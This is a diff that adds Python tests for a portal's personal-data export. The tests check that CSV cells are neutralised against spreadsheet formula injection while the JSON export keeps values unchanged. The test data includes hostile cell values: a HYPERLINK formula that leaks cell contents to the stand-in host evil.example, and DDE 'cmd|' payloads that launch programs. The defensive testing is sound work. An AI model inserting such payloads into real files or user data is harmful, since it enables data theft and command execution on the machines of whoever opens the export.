@@ -1,5 +1,6 @@
 """My data: re-authentication, the export zip, and account deletion that keeps the totals true."""
 
+import csv
 import io
 import json
 import zipfile
@@ -190,3 +191,55 @@ def test_a_user_without_a_clinician_profile_can_export_and_delete(staff_user):
     account_delete(user=staff_user)
     staff_user.refresh_from_db()
     assert not staff_user.is_active and staff_user.email.endswith("@deleted.invalid")
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-2+3+cmd|x",
+]
+
+
+def _export_tables(user) -> dict[str, list[dict]]:
+    from advocacy_portal.services import my_data_export
+
+    with zipfile.ZipFile(io.BytesIO(my_data_export(user=user))) as archive:
+        return {
+            name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+            for name in archive.namelist()
+            if name.endswith(".csv")
+        }
+
+
+def test_the_export_csv_writes_formula_cells_as_text(clinician_user):
+    clinician = clinician_user.clinician
+    clinician.display_name, clinician.bio, clinician.organisation = HOSTILE_CELLS[:3]
+    clinician.save()
+    ActivityFactory(clinician=clinician, excerpt=HOSTILE_CELLS[1], disclosure_text=HOSTILE_CELLS[0])
+    LedgerEntryFactory(clinician=clinician, amount=-5, kind="adjustment", memo=HOSTILE_CELLS[3])
+    NotificationFactory(user=clinician_user, title=HOSTILE_CELLS[2], body=HOSTILE_CELLS[0])
+
+    tables = _export_tables(clinician_user)
+
+    profile = tables["profile"][0]
+    assert [profile["display_name"], profile["bio"], profile["organisation"]] == ["'" + v for v in HOSTILE_CELLS[:3]]
+    activity = tables["activities"][0]
+    assert (activity["excerpt"], activity["disclosure_text"]) == ("'" + HOSTILE_CELLS[1], "'" + HOSTILE_CELLS[0])
+    entry = tables["ledger"][0]
+    # The memo is text and quoted; the negative amount is a number and is written as it is.
+    assert (entry["memo"], entry["amount"]) == ("'" + HOSTILE_CELLS[3], "-5")
+    notification = tables["notifications"][0]
+    assert (notification["title"], notification["body"]) == ("'" + HOSTILE_CELLS[2], "'" + HOSTILE_CELLS[0])
+    every_cell = [cell for rows in tables.values() for row in rows for cell in row.values()]
+    assert not [cell for cell in every_cell if cell[:1] in {"=", "+", "@"} or (cell[:1] == "-" and cell != "-5")]
+
+
+def test_the_export_json_keeps_the_values_as_entered(clinician_user):
+    clinician = clinician_user.clinician
+    clinician.bio = HOSTILE_CELLS[0]
+    clinician.save()
+    from advocacy_portal.services import my_data_export
+
+    with zipfile.ZipFile(io.BytesIO(my_data_export(user=clinician_user))) as archive:
+        assert json.loads(archive.read("profile.json"))[0]["bio"] == HOSTILE_CELLS[0]
